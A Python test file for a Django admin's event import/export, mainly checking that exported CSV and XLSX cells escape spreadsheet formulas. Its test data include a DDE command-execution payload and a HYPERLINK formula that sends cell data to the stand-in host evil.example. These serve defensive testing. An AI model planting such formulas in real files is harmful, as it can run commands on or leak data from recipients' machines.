"""Admin import and export (issue 18 item 5): new events through import, spreadsheet formulas escaped on
export and restored on import, links and locks of rows written in bulk."""
from __future__ import annotations

import datetime
from io import BytesIO

import openpyxl
import pytest
from django.contrib.admin.models import ADDITION, LogEntry
from import_export.formats import base_formats

from events.models import Event
from sources.resources import SourcedResource, escape_formula, unescape_formula
from tests.admin.test_admin_import_export import (
    _dataset,
    admin_export,
    admin_import_confirm,
    admin_import_preview,
    snapshot,
    world,  # noqa: F401 (fixture)
)

pytestmark = pytest.mark.django_db

HEADERS = "source_key,conflict,date,end_date,precision,time_of_day,kind,text,section,order,citations,casualties," \
          "background,places,forces,people\n"


def test_new_events_are_created_through_import(editor_client, editor, world):  # noqa: F811
    csv = HEADERS + (
        "aleppo-2016-new-1,aleppo-2016,2016-05-07,,day,,attack,Rebels attacked Khan Tuman.,,7,[],3,0,"
        "khan-tuman,tiger-forces|saa,suheil-al-hassan\n"
        "aleppo-2016-new-2,aleppo-2016,2016-06-01,,month,,other,In June the front was quiet.,,8,,,,,,\n")
    preview = admin_import_preview(editor_client, "events_event", "csv", csv.encode())
    result = preview.context["result"]
    assert not result.has_errors() and not result.has_validation_errors(), [
        (r.errors, r.validation_error) for r in result.rows]
    assert result.totals["new"] == 2
    assert "Rebels attacked Khan Tuman." in preview.content.decode()
    assert not Event.objects.filter(source_key__startswith="aleppo-2016-new").exists()  # the preview wrote nothing
    admin_import_confirm(editor_client, "events_event", preview)
    event = Event.objects.get(source_key="aleppo-2016-new-1")
    assert event.date == datetime.date(2016, 5, 7) and event.kind == "attack" and event.casualties == 3
    assert event.conflict == world["conflict"] and event.locked_fields == [] and event.source is None
    assert event.period_end == datetime.date(2016, 5, 7)
    assert [p.slug for p in event.places.all()] == ["khan-tuman"]
    assert {f.slug for f in event.forces.all()} == {"tiger-forces", "saa"}
    assert [p.slug for p in event.people.all()] == ["suheil-al-hassan"]
    june = Event.objects.get(source_key="aleppo-2016-new-2")
    assert june.precision == "month" and june.period_end == datetime.date(2016, 6, 30)
    assert list(june.places.all()) == []
    assert LogEntry.objects.filter(action_flag=ADDITION, user=editor).count() == 2


def test_new_rows_with_bad_values_say_so(editor_client, world):  # noqa: F811
    csv = HEADERS + (
        "aleppo-2016-bad,aleppo-2016,2016-05-07,2016-05-01,day,,attack,Ends before it starts.,,7,,,,,,\n"
        "aleppo-2016-twice,aleppo-2016,2016-05-07,,day,,attack,One.,,7,,,,,,\n"
        "aleppo-2016-twice,aleppo-2016,2016-05-08,,day,,attack,Two.,,8,,,,,,\n"
        "aleppo-2016-nodate,aleppo-2016,,,day,,attack,No date.,,9,,,,,,\n")
    before = snapshot()
    preview = admin_import_preview(editor_client, "events_event", "csv", csv.encode())
    result = preview.context["result"]
    messages = [str(r.error) for r in result.invalid_rows]
    assert len(messages) == 3, messages
    assert "event_end_not_before_start" in messages[0]
    assert "“aleppo-2016-twice” is on another new row of this file" in messages[1]
    assert "date" in messages[2] and "cannot be null" in messages[2]
    assert snapshot() == before


def test_changed_links_are_written_and_locked_in_bulk(editor_client, world):  # noqa: F811
    content = admin_export(editor_client, "events_event", "csv").decode()
    dataset = base_formats.CSV().create_dataset(content)
    rows = [dict(zip(dataset.headers, r, strict=True)) for r in dataset]
    row = next(r for r in rows if r["source_key"] == "aleppo-2016-on-2-may")
    row["forces"], row["people"], row["end_date"] = "saa", "", "2016-05-09"
    data = base_formats.CSV().export_data(_dataset(dataset.headers, rows))
    preview = admin_import_preview(editor_client, "events_event", "csv", data.encode())
    row = next(r for r in preview.context["result"].rows if r.import_type == "update")
    forces = preview.context["result"].diff_headers.index("forces")
    assert "tiger-forces" in str(row.diff[forces]) and "<del" in str(row.diff[forces])  # the preview shows the change
    admin_import_confirm(editor_client, "events_event", preview)
    event = Event.objects.get(source_key="aleppo-2016-on-2-may")
    assert [f.slug for f in event.forces.all()] == ["saa"] and list(event.people.all()) == []
    assert event.end_date == datetime.date(2016, 5, 9) and event.period_end == datetime.date(2016, 5, 9)
    assert event.locked_fields == ["text", "end_date", "forces", "people"]
    assert [p.slug for p in event.places.order_by("slug")] == ["hill-1", "khan-tuman"]  # untouched


@pytest.mark.parametrize("text", ["=HYPERLINK(\"http://x\")", "+1+2", "-cmd|' /C calc'!A0", "@SUM(A1)", "\tTab",
                                  "'=already quoted", "''+twice", "'plain apostrophe", "-7.5", "plain"])
def test_formula_escaping_is_reversible(text):
    escaped = escape_formula(text)
    assert not escaped.startswith(("=", "+", "@", "\t")) and (not escaped.startswith("-") or text == "-7.5")
    assert unescape_formula(escaped) == text


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_escapes_formulas_and_reimport_restores_the_text(editor_client, world, fmt):  # noqa: F811
    event = world["event"]
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    Event.objects.filter(pk=event.pk).update(text=formula, section="+Phase 1", locked_fields=[])
    content = admin_export(editor_client, "events_event", fmt)
    if fmt == "csv":
        raw = content.decode()
        assert f"'{formula}".replace('"', '""') in raw and "'+Phase 1" in raw
        assert ",=HYPERLINK" not in raw and '"=HYPERLINK' not in raw
    else:
        sheet = openpyxl.load_workbook(BytesIO(content)).active
        cells = [c.value for row in sheet.iter_rows() for c in row]
        assert f"'{formula}" in cells and not any(isinstance(c, str) and c.startswith("=") for c in cells)
    before = snapshot()
    preview = admin_import_preview(editor_client, "events_event", fmt, content)
    result = preview.context["result"]
    assert result.totals["skip"] == len(result.rows), dict(result.totals)  # the text came back as it was
    admin_import_confirm(editor_client, "events_event", preview)
    assert snapshot() == before
    assert Event.objects.get(pk=event.pk).text == formula


def test_rows_setting_the_same_values_are_written_together(editor_client, world, monkeypatch):  # noqa: F811
    monkeypatch.setattr(SourcedResource, "SAME_VALUES_GROUP", 1)
    Event.objects.update(source=world["event"].source, locked_fields=[])
    content = admin_export(editor_client, "events_event", "csv").decode()
    dataset = base_formats.CSV().create_dataset(content)
    rows = [dict(zip(dataset.headers, r, strict=True)) for r in dataset]
    for row in rows:
        row["kind"] = "airstrike"
    data = base_formats.CSV().export_data(_dataset(dataset.headers, rows))
    admin_import_confirm(editor_client, "events_event", admin_import_preview(editor_client, "events_event", "csv",
                                                                               data.encode()))
    assert {(e.kind, tuple(e.locked_fields)) for e in Event.objects.all()} == {("airstrike", ("kind",))}
